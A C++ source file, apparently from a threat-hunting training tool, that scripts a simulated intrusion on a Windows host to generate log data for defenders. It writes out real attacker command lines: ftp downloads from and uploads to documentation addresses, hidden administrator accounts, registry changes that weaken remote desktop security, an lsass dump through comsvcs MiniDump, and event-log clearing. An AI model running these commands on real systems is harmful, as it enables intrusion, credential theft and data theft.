// The Windows host's part of the attack.
#include <array>
#include <functional>
#include <memory>
#include <utility>

#include <fmt/format.h>

#include "scenario/story/attack.hpp"
#include "scenario/story/script.hpp"

namespace huntbook::scenario {

namespace {

constexpr std::string_view net = "C:\\Windows\\System32\\net.exe";
constexpr std::string_view reg = "C:\\Windows\\System32\\reg.exe";
constexpr std::string_view cmd = "C:\\Windows\\System32\\cmd.exe";
constexpr std::string_view ftp = "C:\\Windows\\System32\\ftp.exe";
constexpr std::string_view console = "C:\\Windows\\System32\\conhost.exe";
constexpr std::string_view powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view attackers_machine = "WIN-3K1NP0RT";

// What the attacker's hands are on: known only once the logon has happened.
struct Foothold {
  Session session;
  Process shell;
};

// One visit: the script of it, the host, and the session that it gets.
struct Visit {
  Script script;
  WindowsHost& host;
  std::shared_ptr<Foothold> foothold = std::make_shared<Foothold>();

  using Effect = std::function<void(const Session&, const Process&)>;

  // A program started from the command prompt, and what comes of it.
  void run(std::string_view stage, std::string_view technique, std::string what, std::string_view path,
           std::string command_line, Effect effect = {}) {
    script.then(
        20 * ticks_per_second, stage, technique, std::move(what),
        [&at = host, hold = foothold, path, command_line = std::move(command_line), effect = std::move(effect)] {
          const Process process = at.start(hold->session, hold->shell, std::string(path), command_line);
          if (effect) effect(hold->session, process);
        });
  }
};

void guess_passwords(Visit& visit) {
  constexpr std::array<std::string_view, 12> names = {"administrator", "admin",  "user",      "scanner",
                                                      "office",        "backup", "test",      "support",
                                                      "itsupport",     "sql",    "reception", "owner"};
  const Source attacker{std::string(botnet_address), std::string(attackers_machine)};
  for (int attempt = 0; attempt < 216; ++attempt) {
    // Towards the end the guesses go to the one name that exists.
    const bool exists = attempt > 150;
    const std::string_view name = exists ? "itsupport" : names[visit.script.random().below(names.size())];
    visit.script.then(5 * ticks_per_second, credential_access, "T1110.001",
                      fmt::format("password guessed for {}", name), [&host = visit.host, name, attacker] {
                        host.fail_log_on(name, "", LogonType::Network, attacker,
                                         name == "itsupport" ? LogonFailure::WrongPassword : LogonFailure::UnknownUser);
                      });
  }
}

void enter(Visit& visit, const Account& account, const Source& source) {
  WindowsHost& host = visit.host;
  visit.script.then(5 * ticks_per_second, initial_access, "T1078.003",
                    fmt::format("{} logs on over the network", account.name),
                    [&host, account, source] { host.log_off(host.log_on(account, LogonType::Network, source)); });
  visit.script.then(40 * ticks_per_second, initial_access, "T1133",
                    fmt::format("{} opens a remote desktop", account.name),
                    [&host, foothold = visit.foothold, account, source] {
                      foothold->session = host.log_on(account, LogonType::RemoteInteractive, source);
                    });
  visit.script.then(50 * ticks_per_second, execution, "T1059.003", "command prompt opened",
                    [&host, foothold = visit.foothold] {
                      foothold->shell = host.start(foothold->session, foothold->session.shell, std::string(cmd),
                                                   "\"C:\\Windows\\system32\\cmd.exe\"");
                      host.start(foothold->session, foothold->shell, std::string(console),
                                 "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
                    });
}

void look_around(Visit& visit) {
  WindowsHost& host = visit.host;
  visit.run(discovery, "T1033", "own rights read", "C:\\Windows\\System32\\whoami.exe", "whoami  /all");
  visit.run(discovery, "T1082", "system read", "C:\\Windows\\System32\\systeminfo.exe", "systeminfo");
  visit.run(discovery, "T1016", "network read", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig  /all");
  visit.run(discovery, "T1087.001", "users enumerated", net, "net  user",
            [&host](const Session& session, const Process& process) {
              for (int id : {500, 1009, 1021}) {
                const std::string_view name = id == 500 ? "Administrator" : id == 1009 ? "itsupport" : "r.okafor";
                host.enumerate_groups_of(session, process, host.local_account(std::string(name), id));
              }
            });
  visit.run(discovery, "T1069.001", "administrators enumerated", net, "net  localgroup administrators",
            [&host](const Session& session, const Process& process) {
              host.enumerate_group(session, process, "Administrators", 544);
            });
  visit.run(discovery, "T1057", "processes and services listed", "C:\\Windows\\System32\\tasklist.exe",
            "tasklist  /svc");
  visit.run(discovery, "T1033", "sessions listed", "C:\\Windows\\System32\\query.exe", "query  user");
  visit.run(discovery, "T1018", "neighbours listed", net, "net  view /all");
}

void fetch_tools(Visit& visit) {
  WindowsHost& host = visit.host;
  visit.run(command_and_control, "T1105", "ftp script written", cmd,
            "cmd  /c echo open 203.0.113.77 21> c:\\windows\\temp\\g.dat & echo user w w>> c:\\windows\\temp\\g.dat & "
            "echo get tsx.exe>> c:\\windows\\temp\\g.dat & echo bye>> c:\\windows\\temp\\g.dat");
  visit.run(command_and_control, "T1105", "tool fetched by scripted ftp", ftp, "ftp  -n -s:c:\\windows\\temp\\g.dat",
            [&host](const Session& session, const Process& process) {
              host.reach(session, process, botnet_address, {21, "ftp", 9 * ticks_per_second, 600, 1'450'000});
              host.create_file(session, process, "C:\\Windows\\Temp\\tsx.exe");
            });
  visit.run(execution, "T1204.002", "fetched tool run", "C:\\Windows\\Temp\\tsx.exe", "tsx.exe  -p 3389 -m");
  visit.run(defense_evasion, "T1070.004", "ftp script removed", cmd, "cmd  /c del /q c:\\windows\\temp\\g.dat");
}

void set_value(Visit& visit, std::string what, std::string command_line, std::string key, std::string value) {
  visit.run(defense_evasion, "T1112", std::move(what), reg, std::move(command_line),
            [&host = visit.host, key = std::move(key), value = std::move(value)](
                const Session& session, const Process& process) { host.set_registry(session, process, key, value); });
}

void add_users(Visit& visit) {
  WindowsHost& host = visit.host;
  const std::array<Account, 2> users = {host.local_account("helpdesk2", 1022, true),
                                        host.local_account("DefaultUser1", 1023, true)};
  for (const Account& user : users) {
    visit.run(persistence, "T1136.001", fmt::format("user {} added", user.name), net,
              fmt::format("net  user {} Qw3rty!{} /add", user.name, user.name.size()),
              [&host, user](const Session& session, const Process&) { host.create_user(session, user); });
    visit.run(persistence, "T1098", fmt::format("{} made an administrator", user.name), net,
              fmt::format("net  localgroup Administrators {} /add", user.name),
              [&host, user](const Session& session, const Process&) {
                host.add_to_group(session, user, "Administrators", 544);
              });
    visit.run(persistence, "T1098", fmt::format("{} let in over remote desktop", user.name), net,
              fmt::format("net  localgroup \"Remote Desktop Users\" {} /add", user.name),
              [&host, user](const Session& session, const Process&) {
                host.add_to_group(session, user, "Remote Desktop Users", 555);
              });
    visit.run(
        defense_evasion, "T1564.002", fmt::format("{} hidden from the logon screen", user.name), reg,
        fmt::format("reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\"
                    "UserList\" /v {} /t REG_DWORD /d 0 /f",
                    user.name));
  }
}

void remove_protection(Visit& visit) {
  constexpr std::string_view terminal_server = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server";
  constexpr std::string_view dword_zero = "DWORD (0x00000000)";
  set_value(visit, "remote desktop connections allowed",
            fmt::format("reg  add \"{}\" /v fDenyTSConnections /t REG_DWORD /d 0 /f", terminal_server),
            fmt::format("{}\\fDenyTSConnections", terminal_server), std::string(dword_zero));
  set_value(
      visit, "network level authentication switched off",
      fmt::format("reg  add \"{}\\WinStations\\RDP-Tcp\" /v UserAuthentication /t REG_DWORD /d 0 /f", terminal_server),
      fmt::format("{}\\WinStations\\RDP-Tcp\\UserAuthentication", terminal_server), std::string(dword_zero));
  set_value(visit, "several sessions a user allowed",
            fmt::format("reg  add \"{}\" /v fSingleSessionPerUser /t REG_DWORD /d 0 /f", terminal_server),
            fmt::format("{}\\fSingleSessionPerUser", terminal_server), std::string(dword_zero));
  visit.run(defense_evasion, "T1112", "session limits removed", reg,
            "reg  delete \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services\" /v MaxIdleTime /f");
  visit.run(defense_evasion, "T1562.004", "firewall opened for remote desktop", "C:\\Windows\\System32\\netsh.exe",
            "netsh  advfirewall firewall add rule name=\"Windows Update Helper\" dir=in action=allow protocol=TCP "
            "localport=3389");
}

void stay(Visit& visit) {
  WindowsHost& host = visit.host;
  visit.run(persistence, "T1053.005", "task registered", "C:\\Windows\\System32\\schtasks.exe",
            "schtasks  /create /tn \"WindowsUpdateHelper\" /tr C:\\Windows\\Temp\\tsx.exe /sc onstart /ru SYSTEM /f",
            [&host](const Session& session, const Process&) {
              host.write_task(session, "\\WindowsUpdateHelper", "C:\\Windows\\Temp\\tsx.exe", false);
            });
  visit.run(persistence, "T1543.003", "service installed", "C:\\Windows\\System32\\sc.exe",
            "sc  create wuhlp binPath= C:\\Windows\\Temp\\tsx.exe start= auto",
            [&host](const Session& session, const Process&) {
              host.install_service(session, "wuhlp", "C:\\Windows\\Temp\\tsx.exe");
            });
}

void dump_credentials(Visit& visit) {
  WindowsHost& host = visit.host;
  // Base64 of UTF-16LE: gps lsass | select Id
  visit.run(credential_access, "T1003.001", "process of the credentials looked up", powershell,
            "powershell  -nop -w hidden -enc ZwBwAHMAIABsAHMAYQBzAHMAIAB8ACAAcwBlAGwAZQBjAHQAIABJAGQA",
            [&host](const Session& session, const Process&) { host.run_script(session, "gps lsass | select Id", ""); });
  visit.run(credential_access, "T1003.001", "credentials dumped", "C:\\Windows\\System32\\rundll32.exe",
            "rundll32  C:\\Windows\\System32\\comsvcs.dll, MiniDump 696 C:\\Windows\\Temp\\d.dmp full",
            [&host](const Session& session, const Process& process) {
              host.open_process(session, process, {696, "C:\\Windows\\System32\\lsass.exe"});
              host.create_file(session, process, "C:\\Windows\\Temp\\d.dmp");
            });
}

void clear_traces(Visit& visit) {
  for (const WindowsChannel channel : {WindowsChannel::System, WindowsChannel::Security}) {
    const std::string_view name = channel == WindowsChannel::System ? "System" : "Security";
    visit.run(
        defense_evasion, "T1070.001", fmt::format("{} log cleared", name), "C:\\Windows\\System32\\wevtutil.exe",
        fmt::format("wevtutil  cl {}", name),
        [&host = visit.host, channel](const Session& session, const Process&) { host.clear_log(session, channel); });
  }
}

void leave(Visit& visit, std::string_view stage, std::string_view technique) {
  visit.script.then(30 * ticks_per_second, stage, technique, "attacker logs off",
                    [&host = visit.host, foothold = visit.foothold] { host.log_off(foothold->session); });
}

void carry_away(Visit& visit) {
  WindowsHost& host = visit.host;
  for (std::string_view share : {"Accounts", "Contracts", "Personnel"}) {
    visit.run(
        collection, "T1560.001", fmt::format("share {} packed", share), "C:\\Windows\\Temp\\r.exe",
        fmt::format("r.exe  a -hpZx19 -v200m -m3 c:\\windows\\temp\\{}.dat D:\\Shares\\{}", share.substr(0, 2), share));
  }
  visit.run(exfiltration, "T1048.003", "ftp script written", cmd,
            "cmd  /c echo open 198.51.100.23 21> c:\\windows\\temp\\p.dat & echo user w w>> c:\\windows\\temp\\p.dat & "
            "echo mput *.dat>> c:\\windows\\temp\\p.dat");
  visit.run(exfiltration, "T1048.003", "archives sent by scripted ftp", ftp, "ftp  -n -i -s:c:\\windows\\temp\\p.dat",
            [&host](const Session& session, const Process& process) {
              host.reach(session, process, control_address, {21, "ftp", 11 * ticks_per_minute, 1'900'000'000, 41'000});
            });
  visit.run(defense_evasion, "T1070.004", "archives removed", cmd, "cmd  /c del /q c:\\windows\\temp\\*.dat");
}

}  // namespace

void attack_windows(WindowsHost& host, const Company& company) {
  // A night when nobody works.
  Visit first{Script(company.world, company.period.begin + windows_first_night, "attack, first night"), host};
  guess_passwords(first);
  enter(first, host.local_account("itsupport", 1009, true),
        {std::string(botnet_address), std::string(attackers_machine)});
  look_around(first);
  fetch_tools(first);
  add_users(first);
  remove_protection(first);
  stay(first);
  dump_credentials(first);
  clear_traces(first);
  leave(first, defense_evasion, "T1070");

  // The next night, from the other address, with the account made for it.
  Visit second{Script(company.world, company.period.begin + windows_second_night, "attack, second night"), host};
  enter(second, host.local_account("helpdesk2", 1022, true),
        {std::string(control_address), std::string(attackers_machine)});
  carry_away(second);
  clear_traces(second);
  leave(second, exfiltration, "T1048.003");
}

}  // namespace huntbook::scenario
